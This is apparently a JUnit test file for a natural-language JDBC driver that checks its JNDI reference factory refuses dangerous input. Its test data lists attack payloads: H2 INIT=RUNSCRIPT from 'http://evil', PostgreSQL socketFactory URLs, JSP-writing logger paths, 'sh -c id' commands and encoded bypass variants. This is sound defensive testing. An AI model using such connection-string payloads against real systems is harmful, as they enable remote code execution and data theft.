// SPDX-License-Identifier: Apache-2.0
package dev.nljdbc.jdbc;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.nljdbc.config.QuestionSettings;
import dev.nljdbc.config.Setting;
import dev.nljdbc.error.NlException;
import java.sql.DriverManager;
import java.util.Hashtable;
import java.util.List;
import java.util.concurrent.atomic.AtomicInteger;
import javax.naming.BinaryRefAddr;
import javax.naming.Context;
import javax.naming.Name;
import javax.naming.NamingException;
import javax.naming.Reference;
import javax.naming.StringRefAddr;
import javax.naming.spi.ObjectFactory;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.ValueSource;

/** What whoever writes references to a naming service, or URLs of URLs, can't have done by them. */
class ReferenceDoorsTest {

  /** As the factories of application servers, by which any bean can be made and set. */
  public static final class AnyBean implements ObjectFactory {

    static final AtomicInteger MADE = new AtomicInteger();

    /** Counts. */
    public AnyBean() {
      MADE.incrementAndGet();
    }

    @Override
    @SuppressWarnings("JdkObsolete")
    public Object getObjectInstance(
        Object object, Name name, Context context, Hashtable<?, ?> environment) {
      MADE.incrementAndGet();
      return new NlDataSource();
    }
  }

  private static Reference reference(Class<?> type, String... namesAndTexts) {
    Reference reference = new Reference(type.getName(), NlDataSourceFactory.class.getName(), null);
    for (int i = 0; i < namesAndTexts.length; i += 2) {
      reference.add(new StringRefAddr(namesAndTexts[i], namesAndTexts[i + 1]));
    }
    return reference;
  }

  private static Object made(Reference reference) throws Exception {
    return new NlDataSourceFactory().getObjectInstance(reference, null, null, null);
  }

  @Test
  void reference_anyFactoryInside_isNotRun() {
    for (Class<?> type :
        new Class<?>[] {NlDataSource.class, NlPooledDataSource.class, NlXaDataSource.class}) {
      Reference reference =
          reference(
              type,
              "inside.class",
              NlDataSource.class.getName(),
              "inside.factory",
              AnyBean.class.getName());
      assertThatThrownBy(() -> made(reference))
          .isInstanceOf(NamingException.class)
          .hasMessageContainingAll(AnyBean.class.getName(), "has the URL instead");
    }
    assertThat(AnyBean.MADE).hasValue(0);
  }

  @Test
  void reference_addressOfBytes_isRefused() {
    Reference reference =
        reference(
            NlDataSource.class,
            "inside.class",
            "org.h2.jdbcx.JdbcDataSource",
            "inside.factory",
            "org.h2.jdbcx.JdbcDataSourceFactory");
    reference.add(new BinaryRefAddr("inside.address.url", new byte[] {1}));
    assertThatThrownBy(() -> made(reference))
        .isInstanceOf(NamingException.class)
        .hasMessageContainingAll("inside.address.url", "which is no text");
  }

  @Test
  void reference_ofAnotherClass_isNotLookedAt() throws Exception {
    Reference reference =
        new Reference("javax.el.ELProcessor", NlDataSourceFactory.class.getName(), null);
    reference.add(new StringRefAddr("inside.class", "x"));
    reference.add(new StringRefAddr("inside.factory", AnyBean.class.getName()));
    assertThat(made(reference)).isNull();
    assertThat(AnyBean.MADE).hasValue(0);
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      textBlock =
          """
          url | jdbc:nl:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'
          url | jdbc:nl:h2:mem:x;ini%54=CREATE ALIAS X AS '..'
          url | jdbc:nl:postgresql://h/d?socketFactory=some.Spring&socketFactoryArg=http://evil
          url | jdbc:nl:postgresql://h/d?loggerLevel=DEBUG&loggerFile=/srv/web/x.jsp
          property.INIT | RUNSCRIPT FROM 'x'
          property.socketFactory | some.Class
          property.autoDeserialize | true
          property.ha.loadBalanceStrategy | some.Class
          property.session_init_sql_file | /tmp/x.sql
          property.enable_load_extension | true
          inside.address.url | jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'x'
          inside.address.URL | jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'x'
          inside.address.sslfactory | some.Class
          inside.address.serverName | evil/d?socketFactory=some.Spring&socketFactoryArg=http://evil&
          inside.address.databaseName | d?autoDeserialize
          inside.address.options | a&socket%46actory=some.Class
          """)
  void reference_whatRunsCodeAtConnecting_isRefused(String name, String text) {
    assertThatThrownBy(() -> made(reference(NlDataSource.class, name, text)))
        .isInstanceOf(NamingException.class)
        .hasMessageContaining("only from a program's own URL or properties");
  }

  /** Neither under which name, nor in which text, nor with which value. */
  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      textBlock =
          """
          property.nl.api-key-command | sh -c id
          property.NL.Api-Key-Command | sh -c id
          property.nl.api-\u212aey-command | sh -c id
          property.nl.d\u0130r | /tmp
          property.nl.no-setting | x
          property.nl.tables.deny | ''
          property.nl.index.shared | on
          property.nl.functions.allow | org.postgresql.ssl.jdbc4.X
          inside.address.url | jdbc:h2:mem:x;nl.dir=/tmp/evil
          url | jdbc:nl:h2:mem:x;nl.model=m;nl.base-url=https://evil/v1
          url | jdbc:nl:h2:mem:x;nl.api-key-command=sh -c id
          url | jdbc:nl:h2:mem:x;nl.model=m;nl.api-key-file=/home/me/.secret
          url | jdbc:nl:h2:mem:x;nl.dir=/tmp/evil
          url | jdbc:nl:postgresql://h/d?nl.base-url=http://evil&nl.model=m
          url | jdbc:nl:postgresql://h/d?NL.Tables.Deny=&nl.model=m
          url | jdbc:nl:postgresql://h/d?nl.conf%69g=/tmp/mine.properties
          """)
  void reference_settingsThatMayHarm_isRefused(String name, String text) {
    assertThatThrownBy(() -> made(reference(NlDataSource.class, name, text)))
        .isInstanceOf(NamingException.class)
        .hasMessageContaining("somebody else may have written");
  }

  /** A reference sets what a question may set and a few limits: anything else is refused. */
  @ParameterizedTest
  @EnumSource(Setting.class)
  void reference_eachSetting_isHarmlessOrRefused(Setting setting) throws Exception {
    List<String> more =
        List.of(
            "nl.answer.rows",
            "nl.answer.timeout",
            "nl.index.budget",
            "nl.index.refresh",
            "nl.index.wait",
            "nl.reader.password",
            "nl.reader.user");
    Reference reference = reference(NlDataSource.class, "property." + setting.key(), "1");
    boolean ofQuestions =
        QuestionSettings.names().contains(setting.key()) && setting != Setting.ANSWERS;
    if (ofQuestions || more.contains(setting.key())) {
      assertThat(made(reference)).isInstanceOf(NlDataSource.class);
    } else {
      assertThatThrownBy(() -> made(reference))
          .isInstanceOf(NamingException.class)
          .hasMessageContainingAll(setting.key(), setting.environmentName(), "in the program");
    }
  }

  /** The process's second login goes to no host that the reference chose. */
  @Test
  void reference_withUrl_getsNoReaderOfTheProcess() throws Exception {
    String url = "jdbc:nl:postgresql://evil/d";
    System.setProperty("nl.reader.user", "reader");
    System.setProperty("nl.reader.password", "hidden-one");
    try {
      for (Reference reference :
          List.of(
              reference(NlDataSource.class, "url", url),
              reference(NlDataSource.class, "url", url + "?nl.reader.user=reader"),
              reference(NlDataSource.class, "url", url, "property.NL.reader.user", "reader"))) {
        assertThatThrownBy(() -> made(reference))
            .isInstanceOf(NamingException.class)
            .hasMessageContainingAll("nl.reader.password", "Set both in the reference")
            .hasMessageNotContaining("hidden-one");
      }
      Reference both =
          reference(
              NlDataSource.class,
              "url",
              url + "?nl.reader.user=mine",
              "property.nl.reader.password",
              "own");
      assertThat(made(both)).isInstanceOf(NlDataSource.class);
    } finally {
      System.clearProperty("nl.reader.user");
      System.clearProperty("nl.reader.password");
    }
    assertThat(made(reference(NlDataSource.class, "url", url))).isInstanceOf(NlDataSource.class);
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      textBlock =
          """
          url | jdbc:nl:postgresql://init/d?sslmode=verify-full&sslrootcert=/etc/ca.pem
          property.sslfactory | org.postgresql.ssl.DefaultJavaSSLFactory
          property.allowLocalInfile | false
          property.nl.model | gpt-4.1
          url | jdbc:nl:postgresql://nl.memory/nl.dir?user=nl.memory&nl.model=gpt-4.1
          user | init
          inside.address.databaseName | init
          password | a=b
          """)
  void reference_harmless_isMade(String name, String text) throws Exception {
    assertThat(made(reference(NlDataSource.class, name, text))).isInstanceOf(NlDataSource.class);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "jdbc:nl:jdbc:nl:h2:mem:x",
        "jdbc:nl:nl:h2:mem:x",
        "jdbc:nl:jdbc:nl:jdbc:nl:jdbc:nl:sqlite::memory:",
        "JDBC:NL:JDBC:NL:h2:mem:x"
      })
  void url_ofUrls_endsInWords(String url) {
    assertThatThrownBy(() -> DriverManager.getConnection(url))
        .isInstanceOf(NlException.class)
        .hasMessageMatching("(?is)There is no JDBC driver for jdbc:nl: here.*");
  }
}
